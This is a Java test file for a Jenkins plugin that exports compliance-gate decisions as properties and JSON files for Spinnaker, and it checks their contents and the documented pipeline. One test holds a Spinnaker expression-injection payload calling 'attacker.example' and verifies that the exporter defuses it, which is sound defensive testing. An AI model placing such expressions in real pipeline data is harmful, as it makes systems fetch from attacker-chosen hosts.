package io.jenkins.plugins.securitygate.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import io.jenkins.plugins.securitygate.model.Decision;
import io.jenkins.plugins.securitygate.model.Review;
import io.jenkins.plugins.securitygate.model.Verdict;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Pattern;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Our files as Spinnaker reads them, and its pipeline in the documentation as it uses them. */
class SpinnakerTest {
    private static final Pattern CONTEXT = Pattern.compile("#stage\\('([^']+)'\\)\\['context']\\['([^']+)']");
    private static final Pattern WORDS = Pattern.compile("(?:matches|==) '([^']+)'");

    /** The rules of igor's {@code JenkinsService.getBuildProperties}; we write no YAML. */
    private static Map<String, Object> igor(List<Path> artifacts, String fileName) throws IOException {
        Path first = artifacts.stream()
                .filter(artifact -> artifact.getFileName().toString().equals(fileName))
                .findFirst()
                .orElseThrow();
        try (InputStream in = Files.newInputStream(first)) {
            Map<String, Object> map = new TreeMap<>();
            if (fileName.endsWith(".json")) {
                new JsonMapper().readTree(in).properties().forEach(entry -> map.put(entry.getKey(), entry.getValue()));
            } else {
                Properties properties = new Properties();
                properties.load(in);
                properties.forEach((key, value) -> map.put(key.toString(), value));
            }
            return map;
        }
    }

    private static Map<String, Object> properties(Path folder, Decision decision) throws Exception {
        ReportFolder.write(folder, Sample.evidence(), decision);
        return igor(List.of(folder.resolve("compliance-gate.properties")), "compliance-gate.properties");
    }

    @Test
    void bothFilesSayTheSame(@TempDir Path folder) throws Exception {
        Map<String, Object> properties = properties(folder, Sample.failed());
        Map<String, Object> json = igor(List.of(folder.resolve("compliance-gate.json")), "compliance-gate.json");

        assertThat(properties)
                .containsEntry("decision", "fail")
                .containsEntry("risk", "72")
                .containsEntry("recommendation", "roll back")
                .containsEntry("blockers", "3")
                .containsEntry("critical", "1")
                .doesNotContainKeys("stage", "region");
        properties.forEach((name, value) -> {
            if (json.get(name) instanceof JsonNode member) {
                assertThat(value).as(name).isEqualTo(member.asText());
            }
        });
    }

    @Test
    void afterAnApprovalBothFilesSayWhatWasDecided(@TempDir Path folder) throws Exception {
        Instant at = Instant.parse("2026-03-14T11:00:00Z");
        Decision wanted = wantsReview();
        Decision approved =
                wanted.reviewed(new Review(Review.State.APPROVED, "ann, bob", at, "looked at; fine", Verdict.PASS));
        Decision rejected = wanted.reviewed(new Review(Review.State.REJECTED, "ann", at, "no", Verdict.FAIL));

        assertThat(properties(folder, wanted))
                .containsEntry("decision", "review")
                .containsEntry("outcome", "review")
                .containsEntry("approval", "none")
                .containsEntry("approvalBy", "");
        assertThat(properties(folder, approved))
                .containsEntry("decision", "review")
                .containsEntry("outcome", "pass")
                .containsEntry("approval", "approved")
                .containsEntry("approvalBy", "ann, bob")
                .containsEntry("approvalAt", "2026-03-14T11:00:00Z")
                .containsEntry("approvalReason", "looked at; fine");
        assertThat(Files.readString(folder.resolve("report.html")))
                .contains("Approved after review", "approved by ann, bob on 14 Mar 2026, 11:00 UTC: looked at; fine");
        assertThat(properties(folder, rejected))
                .containsEntry("outcome", "fail")
                .containsEntry("approval", "rejected");
    }

    @Test
    void onlyAReviewCanBeReviewed() {
        assertThatThrownBy(() -> Sample.failed()
                        .reviewed(new Review(Review.State.APPROVED, "ann", Instant.EPOCH, "please", Verdict.PASS)))
                .isInstanceOf(IllegalStateException.class);
    }

    private static Decision wantsReview() {
        Decision failed = Sample.failed();
        return new Decision(
                Verdict.REVIEW,
                failed.headline(),
                failed.decided(),
                failed.subject(),
                failed.policies(),
                failed.rules(),
                failed.waivers(),
                failed.waived());
    }

    @Test
    void thePoliciesAndTheRulesThatBlockAreLists(@TempDir Path folder) throws Exception {
        Decision failed = Sample.failed();

        Map<String, Object> properties = properties(folder, failed);

        assertThat(properties.get("blockingRules").toString().split(",")).hasSize(3);
        assertThat(properties.get("policyDigests").toString().split(","))
                .hasSameSizeAs(failed.policies())
                .allSatisfy(digest -> assertThat(digest).startsWith("sha256:"));
    }

    @Test
    void aBuildWithoutADecisionSaysNoneAndNothingEarlier(@TempDir Path folder) throws Exception {
        properties(folder, Sample.failed());

        ReportFolder.writeUndecided(folder, Sample.evidence(), "the policy is not valid");

        assertThat(igor(List.of(folder.resolve("compliance-gate.properties")), "compliance-gate.properties"))
                .containsEntry("decision", "none")
                .containsEntry("headline", "the policy is not valid")
                .containsEntry("policyNames", "");
    }

    @Test
    void aTextCannotBeAnExpressionOfSpinnaker(@TempDir Path folder) throws Exception {
        Map<String, Object> properties = properties(folder, headline("${#fromUrl('http://attacker.example')}"));

        assertThat(properties).containsEntry("headline", "$ {#fromUrl('http://attacker.example')}");
    }

    @Property(tries = 200)
    void anyTextIsReadAsItWasWritten(@ForAll String text) throws Exception {
        Path folder = Files.createTempDirectory("properties");
        Path file = folder.resolve("compliance-gate.properties");
        try (java.io.OutputStream out = Files.newOutputStream(file)) {
            new PropertiesExport().write(Sample.evidence(List.of()), headline(text), out);
        }

        assertThat(igor(List.of(file), "compliance-gate.properties"))
                .containsEntry("headline", text.replace("${", "$ {"))
                .containsEntry("decision", "fail");
        assertThat(Files.readString(file)).matches("[ -~\\n]*");
        Files.delete(file);
        Files.delete(folder);
    }

    private static Decision headline(String headline) {
        Decision failed = Sample.failed();
        return new Decision(
                failed.verdict(),
                headline,
                failed.decided(),
                failed.subject(),
                failed.policies(),
                failed.rules(),
                failed.waivers(),
                failed.waived());
    }

    @Test
    void thePipelineOfTheDocumentationUsesWhatIsThere(@TempDir Path folder) throws Exception {
        Map<String, Object> properties = properties(folder, Sample.failed());
        JsonNode pipeline = documented();
        Set<String> jenkins = new HashSet<>();
        for (JsonNode stage : pipeline.get("stages")) {
            if (stage.get("type").asText().equals("jenkins")) {
                jenkins.add(stage.get("name").asText());
                assertThat(stage.get("propertyFile").asText()).isEqualTo(PropertiesExport.FILE_NAME);
            }
        }
        List<String> used = new ArrayList<>();
        for (String text : texts(pipeline)) {
            CONTEXT.matcher(text).results().forEach(match -> {
                assertThat(jenkins).contains(match.group(1));
                used.add(match.group(2));
            });
        }
        used.removeIf("buildInfo"::equals); // the stage's own

        assertThat(used)
                .contains("outcome", "recommendation", "headline")
                .allSatisfy(key -> assertThat(properties).containsKey(key));
    }

    @Test
    void thePipelineOfTheDocumentationComparesWithWordsThatExist() throws Exception {
        Set<String> words = new HashSet<>();
        for (String text : texts(documented())) {
            WORDS.matcher(text)
                    .results()
                    .forEach(match -> words.addAll(List.of(match.group(1).split("\\|"))));
        }

        assertThat(words).containsExactlyInAnyOrder("pass", "warn", "review", "proceed", "SUCCESS", "UNSTABLE");
    }

    private static JsonNode documented() throws IOException {
        String docs = Files.readString(Path.of("docs/spinnaker.md"));
        String json = docs.substring(docs.indexOf("```json\n") + 8);
        return new JsonMapper().readTree(json.substring(0, json.indexOf("```")));
    }

    private static List<String> texts(JsonNode json) {
        List<String> texts = new ArrayList<>();
        if (json.isTextual()) {
            texts.add(json.asText());
        }
        json.forEach(child -> texts.addAll(texts(child)));
        return texts;
    }
}
